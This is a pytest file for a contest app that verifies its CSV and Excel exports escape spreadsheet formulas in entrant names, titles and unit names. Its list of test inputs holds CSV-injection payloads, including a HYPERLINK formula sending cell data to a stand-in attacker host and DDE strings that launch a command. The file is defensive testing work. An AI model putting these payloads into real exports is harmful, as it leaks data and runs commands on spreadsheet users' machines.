"""A name or title an entrant typed never reaches an organiser's spreadsheet as a formula:
every export writes such cells as text."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from contest.demo import DemoReport
from contest.models import Entrant, Entry, Unit
from contest.spreadsheets import is_formula_like, text_cell
from tests.results.support import Row, bearer, make_results
from tests.support import WRITING, make_entries

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_compute_is_written_as_text(value: str) -> None:
    assert is_formula_like(value)
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Minh Anh", "-3", "-2.5", "", "a=b", 7, 9.25, None])
def test_plain_cells_are_left_as_they_are(value: object) -> None:
    assert text_cell(value) == value


async def _hostile_entries(sessionmaker: async_sessionmaker[AsyncSession]) -> list[int]:
    ids = await make_entries(sessionmaker, WRITING, ages=[7] * len(HOSTILE))
    async with sessionmaker() as session:
        for entry_id, value in zip(ids, HOSTILE, strict=True):
            entry = await session.get(Entry, entry_id)
            assert entry is not None
            entry.title = value
            await session.execute(
                update(Entrant).where(Entrant.id == entry.entrant_id).values(full_name=value)
            )
        await session.execute(update(Unit).where(Unit.code == "th-bach-sam").values(name="=1+2"))
        await session.commit()
    await make_results(
        sessionmaker, [Row(entry_id, rank, 9.0 - rank) for rank, entry_id in enumerate(ids, 1)]
    )
    return ids


@pytest.fixture
async def contest_id(
    demo: DemoReport, sessionmaker: async_sessionmaker[AsyncSession], client: httpx.AsyncClient
) -> int:
    """The writing contest, with hostile names in its results; the client is its organiser."""
    await _hostile_entries(sessionmaker)
    client.headers.update(await bearer(sessionmaker))
    return await _contest_id(sessionmaker)


async def test_results_csv_escapes_every_cell_that_could_be_a_formula(
    client: httpx.AsyncClient, contest_id: int
) -> None:

    response = await client.get(f"/admin/contests/{contest_id}/export/results.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for value in HOSTILE:
        assert "'" + value in cells, value
    assert not [cell for cell in cells if is_formula_like(cell)]


async def test_results_and_report_workbooks_hold_no_formula(
    client: httpx.AsyncClient, contest_id: int
) -> None:

    for path in (f"/admin/contests/{contest_id}/export/results.xlsx", "/admin/report.xlsx"):
        response = await client.get(path)
        assert response.status_code == 200, path
        book = load_workbook(io.BytesIO(response.content))
        strings = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        strings.append(cell.value)
        # The values themselves are kept, as text.
        assert "=1+2" in strings, path
        if "results" in path:
            for value in HOSTILE:
                # XML reads a carriage return back as a line feed.
                assert value.replace("\r", "\n") in strings, (path, value)


async def _contest_id(sessionmaker: async_sessionmaker[AsyncSession]) -> int:
    from sqlalchemy import select

    from contest.models import Contest

    async with sessionmaker() as session:
        found = await session.scalar(select(Contest.id).where(Contest.slug == WRITING))
    assert found is not None
    return found
